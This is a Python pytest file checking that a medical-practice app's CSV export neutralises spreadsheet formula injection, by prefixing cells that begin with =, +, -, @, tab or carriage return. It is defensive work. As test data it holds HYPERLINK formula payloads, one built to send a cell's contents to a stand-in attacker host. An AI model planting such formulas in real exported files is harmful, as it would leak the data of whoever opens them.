"""Fix 4 (issue 14): no CSV cell is a formula a spreadsheet would run."""

import csv
import io

import pytest

from tests import factories
from umpro.acting import Acting
from umpro.csv_export import safe_cell, writer
from umpro.db import utcnow
from umpro.delegation.services import protocols


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("http://x.example/?q="&A1;"clic")',
            '\'=HYPERLINK("http://x.example/?q="&A1;"clic")',
        ),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Suivi diabète", "Suivi diabète"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    w = writer(out)
    w.writerows([["=1+1", "ok"], ["@x", 4]])
    assert list(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [
        ["'=1+1", "ok"],
        ["'@x", "4"],
    ]


def test_a_formula_protocol_title_is_inert_in_the_indicators_csv(sign_in, session, practice):
    b, _ = sign_in("gp", is_admin=True)
    title = '=HYPERLINK("https://attaquant.example/?d="&A2;"Cliquez")'
    installed = factories.install_protocols(session, practice)
    protocol = installed["asalee-dt2"]
    data = protocols.input_of(protocol)
    data.title = title
    protocols.save_protocol(
        session,
        acting=Acting(None, utcnow()),
        practice_id=practice.id,
        data=data,
        protocol=protocol,
    )
    session.commit()
    response = b.get("/delegation/indicateurs.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True)[1:]), delimiter=";"))
    trap = next(r for r in rows if r[1] == "asalee-dt2")
    assert trap[2] == "'" + title
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)
